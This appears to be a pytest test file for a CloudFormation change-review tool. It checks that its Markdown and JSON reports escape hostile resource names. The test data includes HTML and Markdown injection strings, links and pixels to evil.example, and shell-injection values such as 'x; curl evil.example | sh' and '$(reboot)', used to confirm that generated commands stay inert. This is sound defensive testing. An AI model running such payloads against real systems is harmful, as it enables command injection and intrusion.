"""What is posted is text, whatever a template holds, and what a program reads has the keys that were promised."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeAlias

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from hyperpod_constructs.cli import inputs
from hyperpod_constructs.review import review as reviews
from hyperpod_constructs.review.impacts import Verdict
from hyperpod_constructs.review.report import data, markdown, page
from hyperpod_constructs.review.report.lines import Item, Page, Row, Section
from hyperpod_constructs.review.review import Review, Side

Body: TypeAlias = dict[str, Any]
Reviewed: TypeAlias = Callable[[Body, Body], Review]

HOSTILE = [
    "a | b | c",
    "`code`",
    "``two``",
    "a`b",
    "<script>alert(1)</script>",
    "<!-- hidden",
    "</sub></li><h1>Safe</h1>",
    "@acme/owners",
    "x\n# Safe to merge\n\n- [x] done",
    "x\r\n\r\n| a | b |\n| --- | --- |",
    "[here](http://evil.example)",
    "](http://evil.example)",
    "![](http://evil.example/pixel.png)",
    "**bold** _it_ ~~gone~~",
    "# heading",
    "- item",
    "1. item",
    "---",
    "===",
    "&lt;b&gt; &#64;team",
    "\\`x\\` \\| \\",
    "fixes #1",
    "http://evil.example www.evil.example",
    "$x$",
    "\u202egnp.exe",
    "\x1b[31mred",
]
"""Names that somebody may give, to be taken for more than a name."""
OURS = {
    "heading_open", "heading_close", "paragraph_open", "paragraph_close", "inline", "table_open", "table_close",
    "thead_open", "thead_close", "tbody_open", "tbody_close", "tr_open", "tr_close", "th_open", "th_close", "td_open",
    "td_close", "bullet_list_open", "bullet_list_close", "ordered_list_open", "ordered_list_close", "list_item_open",
    "list_item_close", "text", "code_inline", "strong_open", "strong_close", "softbreak", "html_inline", "text_special",
}  # fmt: skip
"""What our own lines are made of."""


@pytest.fixture
def reviewed(tmp_path: Path) -> Reviewed:
    """The review of two sets of resources in us-east-1."""

    def reviewed(base: Body, head: Body) -> Review:
        sides = []
        for name, resources in (("base", base), ("head", head)):
            file = tmp_path / name / "app.json"
            file.parent.mkdir()
            file.write_text(json.dumps({"Resources": resources}), encoding="utf-8")
            source = inputs.read(str(file), "us-east-1")
            findings = inputs.judge(source).findings
            sides.append(Side(assembly=source.read, deployment=source.deployment, findings=findings))
        return reviews.of(*sides)

    return reviewed


def hostile(name: str, count: int) -> Body:
    """Resources whose names and values are all the same, and which change in many ways with the count."""
    group = {
        "InstanceGroupName": name,
        "InstanceType": name,
        "InstanceCount": count,
        "ExecutionRole": name,
        "ThreadsPerCore": count,
        "TrainingPlanArn": f"arn:aws:sagemaker:us-east-1:111122223333:training-plan/{name}",
        "LifeCycleConfig": {"SourceS3Uri": f"s3://{name}/{count}", "OnCreate": name},
    }
    cluster = {
        "ClusterName": name,
        "InstanceGroups": [group],
        "Orchestrator": {"Slurm": {}},
        "VpcConfig": {"SecurityGroupIds": [name], "Subnets": [name]},
        "Tags": [{"Key": name, "Value": f"{name}{count}"}],
    }
    statement = {"Effect": "Allow", "Action": f"s3:{name}{count}", "Resource": name, "Sid": name}
    policy = {"PolicyName": name, "PolicyDocument": {"Statement": statement}}
    budget = {"BudgetName": name, "BudgetType": "COST", "TimeUnit": "MONTHLY", "BudgetLimit": {"Amount": count}}
    return {
        name: {"Type": "AWS::SageMaker::Cluster", "Properties": cluster},
        f"{name}2": {"Type": name, "Properties": {name: f"{name}{count}"}},
        f"{name}3": {"Type": "AWS::IAM::Role", "Properties": {"Policies": [policy]}},
        f"{name}4": {"Type": "AWS::Budgets::Budget", "Properties": {"Budget": {**budget, "Unit": name}}},
        f"{name}5{count}": {"Type": "AWS::S3::Bucket", "Properties": {"BucketName": name}},
        f"{name}6": {
            "Type": "AWS::FSx::FileSystem",
            "Properties": {"StorageCapacity": count, "SubnetIds": [name, count]},
        },
    }


def rendered(lines: list[str]) -> list[Token]:
    """What GitHub's dialect makes of a comment: every token, with those within lines."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse("\n".join(lines))
    return [*tokens, *(child for token in tokens for child in token.children or ())]


def texts(tokens: list[Token]) -> Iterator[str]:
    yield from (token.content for token in tokens if token.type in {"text", "text_special"})


class TestMarkdown:
    @pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
    @pytest.mark.parametrize("order", [1, -1], ids=["more", "less"])
    def test_is_text_whatever_a_template_holds(self, reviewed: Reviewed, name: str, order: int) -> None:
        counts = (2, 4)[::order]
        lines = markdown.lines(page.of(reviewed(*(hostile(name, count) for count in counts))))
        assert_is_ours(rendered(lines))

    @pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
    def test_is_text_in_every_place_of_a_page(self, name: str) -> None:
        items = (Item(text=name), Item(subject=name, text=name, action=name, steps=(name, f"run `{name}`")))
        printed = Page(
            verdict=Verdict.SAFE,
            headline=name,
            where=name,
            rows=(Row(label=name, before=name, after=name, change=name),),
            remarks=(name,),
            sections=(Section(title="Title", items=items),),
        )
        tokens = rendered(markdown.lines(printed))
        assert_is_ours(tokens)
        assert sum(token.type == "td_open" for token in tokens) == len(("label", "before", "after", "change"))
        assert sum(token.type == "list_item_open" for token in tokens) == len(("item", "item", "step", "step"))

    def test_keeps_commands_as_code_that_can_be_copied(self) -> None:
        item = Item(subject="app/Train", text="first `aws s3 ls s3://a_b --x '<y>' | head` then", action="")
        printed = Page(
            verdict=Verdict.SAFE,
            headline="x",
            where="",
            rows=(),
            remarks=(),
            sections=(Section(title="T", items=(item,)),),
        )
        code = [token.content for token in rendered(markdown.lines(printed)) if token.type == "code_inline"]
        assert code == ["app/Train", "aws s3 ls s3://a_b --x '<y>' | head"]

    @pytest.mark.parametrize("counts", [(2, 4), (4, 2)], ids=["more", "less"])
    @pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(reboot)", "x`reboot`", "x\nreboot"])
    def test_puts_no_name_into_a_command_that_a_shell_would_obey(
        self, reviewed: Reviewed, name: str, counts: tuple[int, int]
    ) -> None:
        said = "\n".join(markdown.lines(page.of(reviewed(*(hostile(name, count) for count in counts)))))
        commands = [
            token.content
            for token in rendered(said.split("\n"))
            if token.type == "code_inline" and token.content.startswith(("aws ", "hyperpod "))
        ]
        assert commands
        bare = [re.sub("'[^']*'", "", each) for each in commands]  # a shell takes nothing else as it is
        assert [each for each in bare if "curl" in each or "reboot" in each] == []


def assert_is_ours(tokens: list[Token]) -> None:
    """Only what our own lines are made of: one heading, no link, no image, no HTML but ours, nobody called."""
    assert {token.type for token in tokens} <= OURS
    assert [token.tag for token in tokens if token.type == "heading_open"] == ["h3"]
    assert {token.content for token in tokens if token.type == "html_inline"} <= {"<sub>", "</sub>"}
    # GitHub looks for these in the text of what was rendered
    calls = [text for text in texts(tokens) for sign in "@#" if any(map(_is_name, text.split(sign)[1:]))]
    assert calls == []
    assert not [char for token in tokens for char in token.content if char != "\u200b" and _is_hidden(char)]


def _is_name(text: str) -> bool:
    return text[:1].isalnum()


def _is_hidden(char: str) -> bool:
    return not char.isprintable() and char != "\n"


class TestPage:
    def test_is_short_for_a_change_of_many_places(self, reviewed: Reviewed) -> None:
        def many(number: int) -> Body:
            return {
                f"Q{place}": {"Type": "AWS::EKS::Cluster", "Properties": {"Version": f"1.{number + place % 7}"}}
                for place in range(60)
            }

        assert len(markdown.lines(page.of(reviewed(many(25), many(32))))) < len(range(40))

    def test_names_some_of_many_places_and_counts_the_others(self, reviewed: Reviewed) -> None:
        def many(version: str) -> Body:
            return {f"Q{n}": {"Type": "AWS::EKS::Cluster", "Properties": {"Version": version}} for n in range(60)}

        (line,) = (
            line for line in markdown.lines(page.of(reviewed(many("1.33"), many("1.34")))) if "`app.json/" in line
        )
        assert line.startswith("- `app.json/{Q0, Q1, Q2, Q3, Q4, Q5 and 54 more}` rolling: Version 1.33 → 1.34")

    def test_has_its_verdict_in_the_first_six_words(self, reviewed: Reviewed) -> None:
        found = reviewed(hostile("a", 2), hostile("a", 4))
        assert found.verdict.value in markdown.lines(page.of(found))[0].lower().split(":")[0].split()[:6]


class TestJson:
    def test_has_the_keys_that_were_promised(self, reviewed: Reviewed) -> None:
        found = data.as_data(reviewed(hostile("a", 2), hostile("a", 4)))
        assert {"verdict", "changes", "cost", "capacity", "findings", "not_compared"} <= found.keys()
        assert {"new", "resolved"} <= found["findings"].keys()
        assert {"before_usd_per_hour", "after_usd_per_hour", "source", "as_of", "estimate"} <= found["cost"].keys()
        for change in found["changes"]:
            assert {"path", "property", "impact", "reason", "action", "recipe", "source"} <= change.keys()

    def test_says_in_every_change_what_happens_why_and_who_says_so(self, reviewed: Reviewed) -> None:
        for change in data.as_data(reviewed(hostile("a", 4), hostile("a", 2)))["changes"]:
            assert change["path"]
            assert change["impact"]
            assert change["reason"]
            assert change["source"]

    @pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
    def test_holds_names_as_they_are(self, reviewed: Reviewed, name: str) -> None:
        found = data.as_data(reviewed(hostile(name, 2), hostile(name, 4)))
        written = json.loads(json.dumps(found, default=data.moment))
        assert {change["path"] for change in written["changes"]} >= {f"app.json/{name}2"}

    def test_is_the_same_for_the_same_pair(self, reviewed: Reviewed, tmp_path: Path) -> None:
        first = data.as_data(reviewed(hostile("a", 2), hostile("a", 4)))
        for side in ("base", "head"):
            (tmp_path / side / "app.json").unlink()
            (tmp_path / side).rmdir()
        assert json.dumps(data.as_data(reviewed(hostile("a", 2), hostile("a", 4)))) == json.dumps(first)
